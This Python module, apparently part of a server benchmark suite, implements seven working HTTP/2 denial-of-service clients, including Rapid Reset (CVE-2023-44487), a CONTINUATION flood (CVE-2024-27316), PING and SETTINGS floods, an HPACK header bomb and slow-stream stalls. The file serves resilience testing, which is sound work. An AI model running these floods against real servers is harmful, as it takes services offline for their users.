"""Clients of HTTP/2 that misbehave: the floods that have names, and what is never finished."""

from __future__ import annotations

import asyncio
import struct

from benchmarks import http2
from benchmarks.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    MAX_NUMBER,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
)

# Indexed fields, and literals with indexed names: GET or POST, http, path, authority.
GET = b"\x82\x86\x04\x07/health\x01\x01x"
LARGEST = b"\x82\x86\x04\x0d/openapi.json\x01\x01x"
POST = b"\x83\x86\x04\x08/predict\x01\x01x"
# A field of 4,000 bytes, put into the table as its newest entry, and that entry again.
BIG_FIELD = b"\x40\x01a\x7f" + b"\xa1\x1e" + b"b" * 4000
AGAIN = b"\xbe"
# At once, between two looks at whether the connection is open.
BURST = 500


async def _send(writer: asyncio.StreamWriter, *frames: bytes) -> None:
    writer.write(b"".join(frames))
    await writer.drain()


async def _greet(writer: asyncio.StreamWriter, *settings: tuple[int, int]) -> None:
    await _send(writer, PREFACE, http2.settings(*settings))


async def rapid_resets(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Requests that are reset at once (CVE-2023-44487)."""
    await _greet(writer)
    for first in range(1, MAX_NUMBER, 2 * BURST):
        for stream in range(first, first + 2 * BURST, 2):
            writer.write(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET))
            writer.write(frame(RST_STREAM, 0, stream, struct.pack(">L", 8)))
        await writer.drain()


async def continuations(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A head that goes on and on (CVE-2024-27316)."""
    await _greet(writer)
    await _send(writer, frame(HEADERS, 0, 1, GET))
    while True:
        await _send(writer, *[frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b")] * BURST)


async def pings(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """PINGs, each of which wants an answer."""
    await _greet(writer)
    while True:
        await _send(writer, *[frame(PING, 0, 0, bytes(8))] * BURST)


async def settings(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """SETTINGS, each of which wants an answer."""
    await _greet(writer)
    while True:
        await _send(writer, *[frame(SETTINGS, 0, 0)] * BURST)


async def header_bombs(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A large field that a byte repeats: 16 KiB of a head become 50 MB."""
    await _greet(writer)
    stream = 1
    while True:
        block = GET + BIG_FIELD + AGAIN * 12_000
        await _send(writer, frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
        stream += 2
        await asyncio.sleep(0)


async def closed_windows(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A hundred requests for the largest page, whose answers the client's window does not take."""
    await _greet(writer, (INITIAL_WINDOW_SIZE, 0))
    for stream in range(1, 201, 2):
        await _send(writer, frame(HEADERS, END_HEADERS | END_STREAM, stream, LARGEST))
    await asyncio.sleep(3600)


async def open_streams(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A hundred requests whose bodies arrive by a byte a second."""
    await _greet(writer)
    for stream in range(1, 201, 2):
        await _send(writer, frame(HEADERS, END_HEADERS, stream, POST))
    while True:
        await asyncio.sleep(1)
        await _send(writer, *[frame(DATA, 0, stream, b" ") for stream in range(1, 201, 2)])


ATTACKS = (
    rapid_resets, continuations, pings, settings, header_bombs, closed_windows, open_streams,
)  # fmt: skip
